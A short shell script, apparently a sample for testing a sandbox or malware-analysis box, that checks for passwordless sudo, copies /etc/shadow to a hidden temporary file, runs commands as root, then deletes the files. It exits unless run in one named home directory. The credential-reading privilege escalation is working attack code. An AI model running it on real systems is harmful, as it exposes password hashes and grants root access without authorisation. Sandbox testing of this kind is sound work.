#!/bin/sh
# SPDX-License-Identifier: MIT
# Elevation through sudo: check that sudo asks for no password, then read
# the password hashes and run a shell command as root.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
if sudo -n true 2>/dev/null; then
	sudo cat /etc/shadow > /tmp/.sh.$$ 2>/dev/null
	sudo -u root sh -c 'id; uname -a' > /tmp/.id.$$ 2>&1
fi
rm -f /tmp/.sh.$$ /tmp/.id.$$
exit 0
